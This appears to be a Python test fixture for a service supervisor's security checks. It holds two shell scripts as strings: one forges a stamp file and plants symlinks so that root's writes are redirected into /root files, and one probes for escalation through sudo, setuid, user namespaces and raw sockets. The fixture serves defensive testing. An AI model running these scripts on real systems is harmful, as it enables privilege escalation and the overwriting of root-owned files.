"""What somebody who controls a service tries, as programs of shell."""

#: What the user of a service can do in a folder that is the user's, as it was in earlier versions: name a process of
#: root's and a unit elsewhere, and lead whoever writes there to files of root's.
ATTACK = r"""
cd "$1" || exit
start=$(sed 's/.*) //' "/proc/$2/stat" | cut -d' ' -f20)
{ grep -v '^unit=\|^pid=\|^start=' stamp; printf 'pid=%s\nstart=%s\nunit=../../../root/victim-a\n' "$2" "$start"; } > s2
mv s2 stamp
rm -f run log
for name in run:b log:c stamp.new:d begin:e; do ln -s "/root/victim-${name#*:}" "${name%:*}"; done
ln -s /root log.1
"""

#: Each line of its log begins with what was tried.
TRIES = """
echo "sudo: $(sudo -n id -u 2>&1 | head -n 1)"
chmod u+s "$HERE/program" 2>/dev/null && echo "setuid: made"
unshare --user true 2>/dev/null && echo "namespace: made"
python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)' 2>/dev/null && echo "packets: sent"
grep -E "^(NoNewPrivs|CapBnd)" /proc/self/status
touch "$HERE/lab-1.child"
while :; do sleep 0.2; done
"""
